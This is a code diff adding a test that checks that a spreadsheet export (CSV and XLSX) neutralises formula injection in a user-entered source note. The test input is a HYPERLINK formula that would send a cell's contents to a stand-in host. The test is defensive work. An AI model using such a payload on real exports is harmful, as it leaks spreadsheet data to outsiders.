@@ -48,3 +48,30 @@ async def test_table_views_download_as_csv_and_xlsx(
         )
         sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
         assert sheet is not None and sheet.max_row == max(len(rows), 1), path
+
+
+async def test_text_that_would_start_a_formula_is_exported_as_text(
+    client: httpx.AsyncClient, world: World
+) -> None:
+    """A manager's note beginning with "=" would run as a formula in the city's spreadsheet."""
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"来源")'
+    response = await client.post(
+        "/m/v1/indicators/straw_utilization/values",  # a figure entered by hand
+        json={"value": "50", "period_end": DAY, "source_note": hostile},
+        headers=world.headers("manager"),
+    )
+    assert response.status_code == 201, response.text
+    got = await client.get(
+        "/m/v1/indicators", params={"format": "csv"}, headers=world.headers("manager")
+    )
+    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
+    column = rows[0].index("actual.source_note")
+    assert "'" + hostile in [row[column] for row in rows[1:]]
+    book = await client.get(
+        "/m/v1/indicators", params={"format": "xlsx"}, headers=world.headers("manager")
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
+    assert sheet is not None
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    (cell,) = [c for c in cells if c.value == hostile]
+    assert cell.data_type == "s"  # a string, not a formula
